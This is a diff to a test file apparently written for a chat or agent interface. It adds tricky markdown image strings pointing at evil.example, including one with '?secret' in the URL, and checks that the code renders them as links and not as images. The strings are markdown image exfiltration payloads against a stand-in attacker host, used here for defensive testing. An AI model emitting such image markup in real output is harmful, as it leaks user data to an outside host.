@@ -50,6 +50,11 @@ const FOREIGN = [
   '<div>\n```\n![a](https://evil.example/x.png)\n```\n</div>',
   '```\ncode\n```\n![a](https://evil.example/x.png)',
   '`` ` `` ![a](https://evil.example/x.png) `',
+  // The bracket before the harmless address is not the one that ends the image's words.
+  '![a\\](x)](https://evil.example/x.png)',
+  '![a<b c="](x)">](https://evil.example/x.png)',
+  '![a<http://x](y)>](https://evil.example/x.png)',
+  '<div>\n\n![a`](x)`](https://evil.example/x.png)',
 ];
 
 describe('an image of a foreign host', () => {
@@ -87,6 +92,15 @@ describe('an image of a foreign host', () => {
       if (own.includes('a![b')) expect(linkedImages(own)).toContain('No image! [link](https://example.com)');
       else expect(linkedImages(own)).toBe(own);
     }
+  });
+
+  it('is a link where the thread is told the beginning of code that is too long', () => {
+    const text = `\`![a](https://evil.example/?secret)${'x'.repeat(30_000)}\``;
+    const told = narrate(initialNarration, { kind: 'turn-ended', outcome: 'completed', text, ...ended }).activities;
+    const said = JSON.stringify(told);
+    expect(said).toContain(`\`!${JOINER}[a](https://evil.example/?secret)`);
+    expect(said).toContain('Cut here');
+    expect(said).not.toContain('![a]');
   });
 
   it('is a link in what the thread is told of an answer, a tool and a failure', () => {
